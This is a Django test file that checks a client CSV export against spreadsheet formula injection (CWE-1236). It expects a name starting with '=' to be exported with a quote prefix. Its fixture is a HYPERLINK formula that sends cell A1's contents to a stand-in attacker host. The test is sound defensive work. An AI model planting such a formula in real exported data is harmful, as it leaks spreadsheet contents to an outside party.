"""The client export is meant for Excel: a name cannot become a formula there (CWE-1236)."""

import csv
import io

from django.test import override_settings
from django.urls import reverse

from anxin.workspace.testing.cases import PersonaTestCase
from anxin.workspace.testing.personas import make_client

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@override_settings(TASKS={"default": {
    "BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}})
class ClientExportFormulaTest(PersonaTestCase):
    def rows(self):
        self.client.force_login(self.p.admin_a)
        job = self.client.post(reverse("clients:export"), follow=True).context["job"]
        response = self.client.get(reverse("jobs:download", args=[job.pk]))
        self.assertEqual(response.status_code, 200)
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text)))

    def test_a_name_starting_with_equals_is_exported_as_text(self):
        make_client(self.p.org_a, self.p.wang_fang, name=FORMULA, sequence=71)
        names = [row[1] for row in self.rows()[1:]]
        self.assertIn("'" + FORMULA, names)
        self.assertNotIn(FORMULA, names)

    def test_ordinary_names_are_exported_unchanged(self):
        names = [row[1] for row in self.rows()[1:]]
        self.assertIn(self.p.client_a.name, names)
